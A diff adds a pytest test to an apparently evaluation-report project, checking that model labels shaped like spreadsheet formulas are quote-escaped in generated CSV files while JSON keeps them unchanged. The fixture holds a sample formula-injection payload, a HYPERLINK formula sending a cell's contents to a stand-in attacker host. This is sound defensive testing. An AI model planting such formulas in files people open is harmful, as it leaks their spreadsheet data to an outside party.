@@ -170,6 +170,22 @@ def test_csv_and_json_hold_the_same_table(tmp_path):
     assert data["result_checksum"] == dataset_checksum(read_dataset(path))
 
 
+def test_a_label_a_spreadsheet_would_run_is_quoted_in_the_csv_only(tmp_path):
+    """A model named like a formula (a received file's label) is text in the CSV a reader
+    opens in a spreadsheet (a leading ``'``); the JSON keeps it as it is. A negative number
+    stays a number."""
+    evil = '=HYPERLINK("http://attacker.example/?"&A2,"click")'
+    ds = _result().assign_coords(model=[evil, "+cmd", "net_c", "@SUM(1)"])
+    ds["auroc"][2] = -0.25
+    build_site([write_dataset(ds, tmp_path / "toy.nc")], tmp_path / "site")
+    with open(tmp_path / "site/data/toy.csv", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    data = json.loads((tmp_path / "site/data/toy.json").read_text())
+    assert sorted(r["model"] for r in rows) == sorted(["'" + evil, "'+cmd", "net_c", "'@SUM(1)"])
+    assert sorted(r["model"] for r in data["rows"]) == sorted([evil, "+cmd", "net_c", "@SUM(1)"])
+    assert [r["auroc"] for r in rows if r["model"] == "net_c"] == ["-0.25"]
+
+
 def test_site_fetches_nothing(tmp_path):
     """Every asset is inline: no src/href to another host, no external script or style."""
     from uqmetrics.report.plotting import plot_risk_coverage
